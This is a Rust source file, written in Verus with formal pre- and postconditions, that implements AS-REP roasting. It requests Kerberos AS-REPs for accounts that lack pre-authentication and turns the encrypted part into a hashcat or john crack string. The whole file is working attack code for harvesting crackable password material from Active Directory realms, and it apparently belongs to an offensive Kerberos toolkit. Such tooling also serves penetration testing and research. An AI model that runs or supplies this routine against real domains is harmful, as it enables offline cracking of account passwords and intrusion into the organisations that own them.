//! AS-REP roasting: request an AS-REP without pre-authentication and render
//! its encrypted part as a crackable string.

use vstd::prelude::*;
use crate::channel::KrbChannel;
use crate::crack::CrackFormat;
use crate::crack::as_rep_to_crack_string;
use crate::crack::asrep_crack_chars;
use crate::error::Error;
use crate::etypes::EncryptionType;
use crate::krb_user::KrbUser;
use crate::requesters::request_as_rep;

verus! {

/// Requests an AS-REP for a user with no pre-authentication (possible only
/// for accounts that do not require it) and formats the returned encrypted
/// part for hashcat or john. A reply whose encrypted part is too short to
/// split, or carries a negative etype, is a data error.
pub fn asreproast<C: KrbChannel>(
    realm: &str,
    username: String,
    crack_format: CrackFormat,
    channel: &C,
    etype: Option<EncryptionType>,
) -> (r: Result<String, Error>)
    ensures
        r matches Ok(s) ==> exists|rep_etype: int, cipher: Seq<u8>|
            rep_etype >= 0 && cipher.len() >= 16 && s@ == asrep_crack_chars(
                username@,
                realm@,
                rep_etype,
                cipher,
                crack_format,
            ),
{
    let user = KrbUser::new(username.clone(), realm.to_owned());
    let etypes: Option<Vec<i32>> = match etype {
        Some(e) => {
            let mut v: Vec<i32> = Vec::new();
            v.push(e.as_constant());
            Some(v)
        },
        None => None,
    };
    let as_rep = request_as_rep(&user, None, etypes, channel)?;
    if as_rep.enc_part.cipher.len() < 16 || as_rep.enc_part.etype < 0 {
        return Err(Error::DataError(String::from_str("Unusable AS-REP encrypted part")));
    }
    Ok(as_rep_to_crack_string(username.as_str(), realm, &as_rep.enc_part, crack_format))
}

} // verus!
